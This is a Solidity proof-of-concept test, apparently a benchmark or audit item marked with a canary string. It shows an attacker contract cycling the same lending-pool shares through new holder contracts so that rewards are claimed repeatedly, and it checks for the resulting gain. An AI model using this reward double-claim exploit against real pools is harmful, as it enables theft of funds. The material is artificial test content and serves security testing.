// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.30;

// assay-canary-7d3b6c1e-52a4-4f0c-9be8-1f6a0d94c7e2
import "../Base.sol";

contract Holder {
    function take(PoolShares shares, Rewards rewards, address to) external {
        rewards.claim(to);
        shares.transfer(to, shares.balanceOf(address(this)));
    }
}

contract Attacker {
    function run(LendingPool pool, Rewards rewards, Usd usd) external {
        usd.approve(address(pool), type(uint256).max);
        pool.supply(100_000e6, address(this));
        PoolShares shares = pool.shares();
        for (uint256 i = 0; i < 5; i++) {
            Holder holder = new Holder();
            shares.transfer(address(holder), shares.balanceOf(address(this)));
            holder.take(shares, rewards, address(this));
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        usd.mint(address(other), 100_000e6);
    }

    function exploit() public {
        other.run(pool, rewards, usd);
    }

    function test_Exploit() public {
        exploit();
        require(reward.balanceOf(address(other)) >= 8_000e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
